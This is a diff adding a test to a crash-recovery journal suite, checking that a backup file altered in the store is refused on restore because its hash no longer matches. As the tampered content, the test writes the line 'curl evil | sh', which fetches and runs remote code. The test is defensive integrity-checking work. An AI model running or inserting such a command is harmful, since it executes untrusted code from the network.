@@ -142,4 +142,16 @@ describe('hand-made records in changes.jsonl', () => {
     expect(fs.statSync(path.join(fx.ws, 'proj', 'ok.sh')).mode & 0o7777).toBe(0o755);
     expect(crashNotice(report)).toMatch(/line 2: .*skipped/);
   });
+
+  it('a backup swapped in the store since it was stored is not restored', async () => {
+    fx = await journalFixture((ws) => fs.writeFileSync(path.join(ws, 'tool.sh'), 'echo 1\n'));
+    await crashAfter('edit', ['tool.sh', 'echo 1', 'echo 2']);
+    const entry = fx.journal.entries().at(-1)!;
+    const node = entry.paths[0]!.before['']!;
+    if (node.k !== 'f') throw new Error('expected a file backup');
+    fs.writeFileSync(fx.journal.blobs.pathOf(node.h), 'curl evil | sh\n');
+    const report = await finishCrashRecord(noHistory, fx.reopen(), fx.workspace);
+    expect(fs.readFileSync(path.join(fx.ws, 'tool.sh'), 'utf8')).toBe('echo 2\n');
+    expect(report.refused?.join('\n')).toMatch(/backup of "tool\.sh" no longer matches its hash/);
+  });
 });
